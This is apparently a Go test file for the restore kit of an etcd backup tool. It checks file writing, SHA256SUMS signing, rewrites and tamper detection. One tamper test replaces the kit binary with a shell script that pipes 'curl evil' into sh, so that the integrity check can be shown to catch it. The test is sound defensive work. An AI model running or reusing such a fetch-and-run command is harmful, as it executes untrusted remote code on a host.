package kit_test

import (
	"bytes"
	"errors"
	"log/slog"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/kdr-io/kdr/config"
	"github.com/kdr-io/kdr/kit"
	"github.com/kdr-io/kdr/manifest"
	"github.com/kdr-io/kdr/storage"
)

// fixture is a local target, a kdr binary and a directory of tools, and
// the options that put them into a kit.
type fixture struct {
	target *storage.Local
	binary string
	tools  string
	log    *bytes.Buffer
	o      kit.Options
}

const backupID = "20261124T203000.123Z-3fa9c1"

func newFixture(t *testing.T) *fixture {
	t.Helper()
	dir := t.TempDir()
	disk := filepath.Join(dir, "usb")
	mkdir(t, disk)
	target, err := storage.NewLocal("usb", disk)
	if err != nil {
		t.Fatal(err)
	}
	f := &fixture{target: target, binary: filepath.Join(dir, "bin", "kdr"), tools: filepath.Join(dir, "tools"), log: &bytes.Buffer{}}
	mkdir(t, filepath.Dir(f.binary))
	mkdir(t, f.tools)
	write(t, f.binary, "kdr binary, first build\n", 0o755)
	// age and zstd on this host, etcdutl and etcdctl not; a file that is
	// not executable is no tool.
	write(t, filepath.Join(f.tools, "age"), "#!/bin/sh\necho age\n", 0o755)
	write(t, filepath.Join(f.tools, "zstd"), "#!/bin/sh\necho zstd\n", 0o755)
	write(t, filepath.Join(f.tools, "etcdutl"), "not executable\n", 0o644)
	signer, trust := signingKey(t)
	cfg := testConfig(t)
	rc, err := kit.RestoreConfig(cfg, "usb", cfg.Encryption.Recipients, cfg.Signing.TrustedKeys)
	if err != nil {
		t.Fatal(err)
	}
	f.o = kit.Options{
		Binary:   f.binary,
		Version:  "v1.2.3",
		ToolDirs: []string{filepath.Join(dir, "nowhere"), f.tools},
		Runbooks: []kit.Runbook{{Cluster: "prod", Backup: backupID, Markdown: []byte("# Restore prod\n")}},
		Config:   rc,
		Trust:    trust,
		Signer:   signer,
		Log:      slog.New(slog.NewTextHandler(f.log, nil)),
	}
	return f
}

func (f *fixture) refresh(t *testing.T) *kit.Result {
	t.Helper()
	res, err := kit.Refresh(t.Context(), f.target, f.o)
	if err != nil {
		t.Fatalf("Refresh: %v", err)
	}
	return res
}

func (f *fixture) path(name string) string { return filepath.Join(f.target.Dir(), kit.Dir, name) }

func (f *fixture) check(t *testing.T) *kit.Status {
	t.Helper()
	st, err := kit.Check(t.Context(), f.target, f.o.Trust)
	if err != nil {
		t.Fatalf("Check: %v", err)
	}
	return st
}

// everyFile is what the fixture's kit holds.
var everyFile = []string{"README.txt", "VERSION", "age", "allowed_signers", "kdr", "kdr.yaml", "runbook-prod.md", "zstd"}

func TestRefreshWritesTheKit(t *testing.T) {
	f := newFixture(t)
	res := f.refresh(t)
	if want := append(slices.Clone(everyFile), "SHA256SUMS"); !slices.Equal(res.Written, want) {
		t.Errorf("written %v, want %v", res.Written, want)
	}
	if want := []string{"etcdutl", "etcdctl"}; !slices.Equal(res.Missing, want) {
		t.Errorf("missing %v, want %v", res.Missing, want)
	}
	for _, name := range []string{"kdr", "age", "zstd"} {
		if fi, err := os.Stat(f.path(name)); err != nil || fi.Mode().Perm() != 0o755 {
			t.Errorf("%s: %v, want mode 0755", name, err)
		}
	}
	if got := read(t, f.path("kdr")); got != "kdr binary, first build\n" {
		t.Errorf("kit/kdr holds %q", got)
	}
	if got := read(t, f.path("runbook-prod.md")); got != "# Restore prod\n" {
		t.Errorf("kit/runbook-prod.md holds %q", got)
	}
	if got, want := read(t, f.path("allowed_signers")), f.o.Trust.AllowedSigners(); got != want || !strings.Contains(got, manifest.NamespaceKit) {
		t.Errorf("allowed_signers is %q, want %q, with namespace %s", got, want, manifest.NamespaceKit)
	}
	readme := read(t, f.path("README.txt"))
	for _, want := range []string{
		"./kit/kdr --config ./kit/kdr.yaml restore plan",
		"./kit/kdr --config ./kit/kdr.yaml restore apply --node NAME --identity",
		"ssh-keygen -Y verify -f kit/allowed_signers -I kdr -n kdr-kit",
		"-s kit/SHA256SUMS.sig < kit/SHA256SUMS",
		"sha256sum -c SHA256SUMS",
		"kit/runbook-prod.md", backupID,
		"Not found on the host that wrote this kit, so not here: etcdutl, etcdctl.",
		"kdr v1.2.3",
	} {
		if !strings.Contains(readme, want) {
			t.Errorf("README.txt does not say %q:\n%s", want, readme)
		}
	}
	// sha256sum's format, every file but the list itself.
	var names []string
	for _, line := range strings.Split(strings.TrimSpace(read(t, f.path("SHA256SUMS"))), "\n") {
		_, name, _ := strings.Cut(line, "  ")
		names = append(names, name)
	}
	if !slices.Equal(names, everyFile) {
		t.Errorf("SHA256SUMS lists %v, want %v", names, everyFile)
	}
	st := f.check(t)
	if st.Version != "v1.2.3" || !slices.Equal(st.Files, everyFile) {
		t.Errorf("Check: version %q, files %v", st.Version, st.Files)
	}
	if n := strings.Count(f.log.String(), "level=WARN"); n != 1 || !strings.Contains(f.log.String(), "etcdutl") {
		t.Errorf("%d warnings, want one naming the missing tools:\n%s", n, f.log)
	}
}

// TestRefreshRewritesNothingWhenCurrent is the backup every 30 minutes:
// the kit is current, nothing is copied, nothing warns again.
func TestRefreshRewritesNothingWhenCurrent(t *testing.T) {
	f := newFixture(t)
	f.refresh(t)
	past := time.Now().Add(-time.Hour).Truncate(time.Second)
	all := append(slices.Clone(everyFile), "SHA256SUMS", "SHA256SUMS.sig")
	for _, name := range all {
		if err := os.Chtimes(f.path(name), past, past); err != nil {
			t.Fatal(err)
		}
	}
	f.log.Reset()
	res := f.refresh(t)
	if len(res.Written) != 0 || len(res.Removed) != 0 {
		t.Errorf("a current kit: written %v, removed %v; want nothing", res.Written, res.Removed)
	}
	for _, name := range all {
		fi, err := os.Stat(f.path(name))
		if err != nil {
			t.Fatal(err)
		}
		if !fi.ModTime().Equal(past) {
			t.Errorf("%s was rewritten (modified %s)", name, fi.ModTime())
		}
	}
	if strings.Contains(f.log.String(), "level=WARN") {
		t.Errorf("the missing tools were warned of again:\n%s", f.log)
	}
}

func TestRefreshRewritesWhatChanged(t *testing.T) {
	f := newFixture(t)
	f.refresh(t)

	// An upgrade of the same size: only a hash tells.
	write(t, f.binary, "kdr binary, other build\n", 0o755)
	res := f.refresh(t)
	if want := []string{"kdr", "SHA256SUMS"}; !slices.Equal(res.Written, want) {
		t.Errorf("after a new binary: written %v, want %v", res.Written, want)
	}
	if got := read(t, f.path("kdr")); got != "kdr binary, other build\n" {
		t.Errorf("kit/kdr holds %q", got)
	}

	f.o.Version = "v1.2.4"
	f.o.Runbooks[0] = kit.Runbook{Cluster: "prod", Backup: "20261124T210000.000Z-000001", Markdown: []byte("# Restore prod, newer\n")}
	res = f.refresh(t)
	if want := []string{"README.txt", "VERSION", "runbook-prod.md", "SHA256SUMS"}; !slices.Equal(res.Written, want) {
		t.Errorf("after a new version and backup: written %v, want %v", res.Written, want)
	}
	if st := f.check(t); st.Version != "v1.2.4" {
		t.Errorf("Check: version %q, want v1.2.4", st.Version)
	}

	// A mode lost (the disk copied without modes) is a rewrite too.
	if err := os.Chmod(f.path("age"), 0o644); err != nil {
		t.Fatal(err)
	}
	if res = f.refresh(t); !slices.Equal(res.Written, []string{"age"}) {
		t.Errorf("after a lost mode: written %v, want [age]", res.Written)
	}
}

func TestRefreshRemovesWhatTheKitNoLongerHolds(t *testing.T) {
	f := newFixture(t)
	f.refresh(t)
	// The operator's own note is not kdr's to delete.
	write(t, f.path("NOTES.txt"), "spare key in the safe\n", 0o644)
	if err := os.Remove(filepath.Join(f.tools, "zstd")); err != nil {
		t.Fatal(err)
	}
	f.o.Runbooks = nil
	res := f.refresh(t)
	if want := []string{"runbook-prod.md", "zstd"}; !slices.Equal(res.Removed, want) {
		t.Errorf("removed %v, want %v", res.Removed, want)
	}
	for _, name := range res.Removed {
		if _, err := os.Stat(f.path(name)); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("%s is still there: %v", name, err)
		}
	}
	if _, err := os.Stat(f.path("NOTES.txt")); err != nil {
		t.Errorf("the operator's note is gone: %v", err)
	}
	if !strings.Contains(read(t, f.path("README.txt")), "so not here: zstd, etcdutl, etcdctl.") {
		t.Errorf("README.txt does not list zstd as missing:\n%s", read(t, f.path("README.txt")))
	}
	f.check(t)
}

func TestCheckRefusesAChangedKit(t *testing.T) {
	_, otherTrust := signingKey(t)
	otherSigner, _ := signingKey(t)
	tests := []struct {
		name   string
		change func(t *testing.T, f *fixture)
		want   error
		words  string
	}{
		{"the binary replaced", func(t *testing.T, f *fixture) {
			write(t, f.path("kdr"), "#!/bin/sh\ncurl evil | sh\n", 0o755)
		}, kit.ErrDamaged, "kit/kdr is not the file SHA256SUMS lists"},
		{"a tool gone", func(t *testing.T, f *fixture) {
			remove(t, f.path("age"))
		}, kit.ErrDamaged, "kit/age is missing"},
		{"the config edited", func(t *testing.T, f *fixture) {
			write(t, f.path("kdr.yaml"), read(t, f.path("kdr.yaml"))+"# more\n", 0o444)
		}, kit.ErrDamaged, "kit/kdr.yaml"},
		{"the list edited to match", func(t *testing.T, f *fixture) {
			write(t, f.path("kdr"), "evil\n", 0o755)
			write(t, f.path("SHA256SUMS"), strings.Replace(read(t, f.path("SHA256SUMS")), "\n", "x\n", 1), 0o444)
		}, manifest.ErrUntrusted, "not over these bytes"},
		{"the list signed by another key", func(t *testing.T, f *fixture) {
			sig, err := otherSigner.Sign([]byte(read(t, f.path("SHA256SUMS"))), manifest.NamespaceKit)
			if err != nil {
				t.Fatal(err)
			}
			write(t, f.path("SHA256SUMS.sig"), string(sig), 0o444)
		}, manifest.ErrUntrusted, "not a trusted key"},
		{"the list signed as a runbook", func(t *testing.T, f *fixture) {
			sig, err := f.o.Signer.Sign([]byte(read(t, f.path("SHA256SUMS"))), manifest.NamespaceRunbook)
			if err != nil {
				t.Fatal(err)
			}
			write(t, f.path("SHA256SUMS.sig"), string(sig), 0o444)
		}, manifest.ErrUntrusted, "kdr-kit"},
		{"the signature gone", func(t *testing.T, f *fixture) {
			remove(t, f.path("SHA256SUMS.sig"))
		}, manifest.ErrUnsigned, ""},
		{"no kit", func(t *testing.T, f *fixture) {
			remove(t, f.path("SHA256SUMS"))
		}, kit.ErrNoKit, "no kit/SHA256SUMS"},
		{"checked against other keys", func(t *testing.T, f *fixture) {
			f.o.Trust = otherTrust
		}, manifest.ErrUntrusted, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFixture(t)
			f.refresh(t)
			trust := f.o.Trust
			tt.change(t, f)
			_, err := kit.Check(t.Context(), f.target, f.o.Trust)
			if !errors.Is(err, tt.want) || !strings.Contains(err.Error(), tt.words) {
				t.Fatalf("Check: %v; want %v saying %q", err, tt.want, tt.words)
			}
			// The next backup repairs it.
			f.o.Trust = trust
			f.refresh(t)
			f.check(t)
		})
	}
}

func TestRestoreConfigHoldsNoSecret(t *testing.T) {
	cfg := testConfig(t)
	out, err := kit.RestoreConfig(cfg, "usb", cfg.Encryption.Recipients, append([]string{"", "# a comment"}, cfg.Signing.TrustedKeys...))
	if err != nil {
		t.Fatal(err)
	}
	for _, secret := range []string{"s3-secret-in-env", "AKIA-in-env", "etcd-password-in-env", "root", "signing.key", "s3.example", "s3:"} {
		if strings.Contains(string(out), secret) {
			t.Errorf("the kit's kdr.yaml holds %q:\n%s", secret, out)
		}
	}
	// On a disk mounted anywhere, loaded from anywhere.
	disk := t.TempDir()
	file := filepath.Join(disk, kit.Dir, kit.ConfigFile)
	mkdir(t, filepath.Dir(file))
	write(t, file, string(out), 0o444)
	t.Chdir(t.TempDir())
	got, err := config.Load(file)
	if err != nil {
		t.Fatalf("the kit's kdr.yaml does not load: %v\n%s", err, out)
	}
	if len(got.Targets) != 1 || got.Targets[0].Name != "usb" || got.Targets[0].Local == nil || got.Targets[0].Local.Path != disk {
		t.Errorf("targets %+v, want usb at %s alone", got.Targets, disk)
	}
	if got.Signing.KeyFile != "" || !slices.Equal(got.Signing.TrustedKeys, cfg.Signing.TrustedKeys) {
		t.Errorf("signing %+v, want the trusted keys alone", got.Signing)
	}
	if !slices.Equal(got.Encryption.Recipients, cfg.Encryption.Recipients) || len(got.Encryption.RecipientsFiles) != 0 {
		t.Errorf("encryption %+v", got.Encryption)
	}
	e := got.Clusters[0].Etcd
	if got.Clusters[0].Name != "prod" || !slices.Equal(e.Endpoints, cfg.Clusters[0].Etcd.Endpoints) || e.Username != "" || e.Password != "" || e.TLS == nil || e.TLS.CA != "/etc/kubernetes/pki/etcd/ca.crt" || e.TLS.Key != "/etc/kubernetes/pki/$odd-name.key" {
		t.Errorf("cluster %+v", got.Clusters[0])
	}

	if _, err := kit.RestoreConfig(cfg, "s3", nil, cfg.Signing.TrustedKeys); err == nil {
		t.Error("a kit config for the S3 target: want an error")
	}
}

// TestConfigReservesTheKitDirectory: a cluster named like the kit's
// directory would put its sets among the kit's files.
func TestConfigReservesTheKitDirectory(t *testing.T) {
	doc := strings.Replace(testConfigDoc, "name: prod", "name: "+kit.Dir, 1)
	t.Setenv("S3_SECRET", "x")
	t.Setenv("S3_ACCESS", "y")
	t.Setenv("ETCD_PASSWORD", "z")
	if _, err := config.Parse("kdr.yaml", []byte(doc)); err == nil || !strings.Contains(err.Error(), "reserved") {
		t.Fatalf("a cluster named %q: %v, want refused as reserved", kit.Dir, err)
	}
}

const testConfigDoc = `clusters:
  - name: prod
    etcd:
      endpoints: [https://10.0.0.11:2379, https://10.0.0.12:2379]
      tls: {ca: /etc/kubernetes/pki/etcd/ca.crt, cert: /etc/kubernetes/pki/apiserver-etcd-client.crt, key: "/etc/kubernetes/pki/$$odd-name.key"}
      username: root
      password: ${ETCD_PASSWORD}
encryption:
  recipients: [age1pfz2wqrkh05nrg847tuc2dxryzlecazwrh2nc4prwmp6d98g23es6jnthh]
signing:
  keyFile: /etc/kdr/signing/signing.key
  trustedKeys: ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDkgk7G8drVjg7ABJHxC/jw5i0O5/dYexhQP+MkHl32q"]
targets:
  - name: s3
    s3: {endpoint: s3.example:9000, bucket: kdr, accessKey: "${S3_ACCESS}", secretKey: "${S3_SECRET}"}
  - name: usb
    local: {path: /mnt/usb/kdr}
`

func testConfig(t *testing.T) *config.Config {
	t.Helper()
	t.Setenv("S3_SECRET", "s3-secret-in-env")
	t.Setenv("S3_ACCESS", "AKIA-in-env")
	t.Setenv("ETCD_PASSWORD", "etcd-password-in-env")
	cfg, err := config.Parse("kdr.yaml", []byte(testConfigDoc))
	if err != nil {
		t.Fatal(err)
	}
	return cfg
}

func signingKey(t *testing.T) (*manifest.Signer, *manifest.Trust) {
	t.Helper()
	priv, pub, err := manifest.GenerateSigningKey("")
	if err != nil {
		t.Fatal(err)
	}
	s, err := manifest.ParseSigner(priv)
	if err != nil {
		t.Fatal(err)
	}
	trust, err := manifest.ParseTrust([]string{pub})
	if err != nil {
		t.Fatal(err)
	}
	return s, trust
}

func mkdir(t *testing.T, dir string) {
	t.Helper()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
}

// write replaces a file as a person would, whatever its mode.
func write(t *testing.T, path, data string, mode os.FileMode) {
	t.Helper()
	os.Remove(path)
	if err := os.WriteFile(path, []byte(data), mode); err != nil {
		t.Fatal(err)
	}
}

func read(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func remove(t *testing.T, path string) {
	t.Helper()
	if err := os.Remove(path); err != nil {
		t.Fatal(err)
	}
}
